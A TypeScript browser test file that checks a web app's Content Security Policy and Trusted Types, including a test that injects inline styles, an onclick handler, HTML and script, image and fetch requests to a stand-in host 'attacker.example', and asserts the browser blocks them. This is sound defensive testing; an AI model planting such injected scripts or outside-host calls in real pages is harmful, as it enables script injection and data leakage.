/**
 * What the server allows a page to do, and the pages: none of them does anything that the browser has to forbid.
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { examplesFolder, startApp } from "./support/appUnderTest.ts";
import { launchChromium } from "./support/chromium.ts";

let app: Awaited<ReturnType<typeof startApp>>;
let browser: Browser;

/** A visit that has been kept, with its drawings. */
let visitAddress: string;

beforeAll(async () => {
  [app, browser] = await Promise.all([startApp(), launchChromium()]);
  visitAddress = await keepAVisit();
});

afterAll(async () => {
  await browser.close();
  await app.stop();
});

async function keepAVisit(): Promise<string> {
  const instrument = { number: "C-07", kind: "cello" };
  const headers = { "content-type": "application/json" };
  await fetch(`${app.url}api/instruments`, { method: "POST", headers, body: JSON.stringify(instrument) });
  const form = new FormData();
  form.append("readings", new Blob([readFileSync(join(examplesFolder, "cello-to-dress.csv"))]), "readings.csv");
  form.append("date", "2026-11-25");
  const kept = await fetch(`${app.url}api/instruments/C-07/visits`, { method: "POST", body: form });
  expect(kept.status).toBe(201);
  return String(kept.headers.get("location")).replace("/api/", "/");
}

/** Everything the browser says about a policy: what it forbade, and what it could not make out of a header. */
async function openWatched(address: string): Promise<{ readonly page: Page; readonly breaches: readonly string[] }> {
  const page = await (await browser.newContext()).newPage();
  const breaches: string[] = [];
  page.on("console", (message) => {
    if (/policy|This document requires/i.test(message.text())) breaches.push(message.text());
  });
  await page.goto(new URL(address, app.url).href);
  await page.locator("h1:visible, a:visible").first().waitFor();
  await page.waitForLoadState("networkidle");
  return { page, breaches };
}

test.each([
  ...[
    "/",
    "/?instrument=C-07",
    "/instruments",
    "/instruments/C-07",
    "/instruments/none",
    "a kept visit",
    "/due",
    "/sign-in",
  ],
  ...["/invented", "/invented/instruments", "/invented/due"],
])("the page %s breaks nothing of the policy it is served with", async (address) => {
  const { breaches } = await openWatched(address === "a kept visit" ? visitAddress : address);
  expect(breaches).toEqual([]);
});

test("a board drawn on the page, pointed at and made ready for paper, breaks none of it either", async () => {
  const { page, breaches } = await openWatched("/");
  await page.selectOption("#example", "viola-too-thin");
  const plan = page.locator("svg:visible").first();
  await plan.waitFor();
  await plan.hover();
  await page.emulateMedia({ media: "print" });
  expect(breaches).toEqual([]);
});

test("a style, a script or markup that somebody slipped into the page is forbidden, and told", async () => {
  const { page, breaches } = await openWatched("/");
  await page.evaluate(() => {
    const script = document.createElement("script");
    for (const slip of [
      () => document.body.setAttribute("style", "color: red"),
      () => document.body.setAttribute("onclick", "slipped()"),
      () =>
        document.body.append(Object.assign(document.createElement("style"), { textContent: "body { color: red }" })),
      () => document.body.insertAdjacentHTML("beforeend", "<b>slipped in</b>"),
      () => script.setAttribute("src", "http://attacker.example/slipped.js"),
      () => document.body.append(script),
      () =>
        document.body.append(
          Object.assign(document.createElement("img"), { src: "http://attacker.example/slipped.png" }),
        ),
      () => void fetch("http://attacker.example/").catch(() => undefined),
    ]) {
      try {
        slip();
      } catch {
        // Trusted types throw.
      }
    }
  });
  await expect.poll(() => breaches.join("\n")).toContain("/slipped.png' violates");
  const told = breaches.join("\n");
  for (const forbidden of [
    "style attributes",
    "TrustedScript'",
    "TrustedHTML'",
    "TrustedScriptURL'",
    "Connecting to",
  ]) {
    expect(told).toContain(forbidden);
  }
  expect(breaches.filter((breach) => breach.startsWith("Applying inline style"))).toHaveLength(2);
  expect(await page.getByText("slipped in").count()).toBe(0);
});
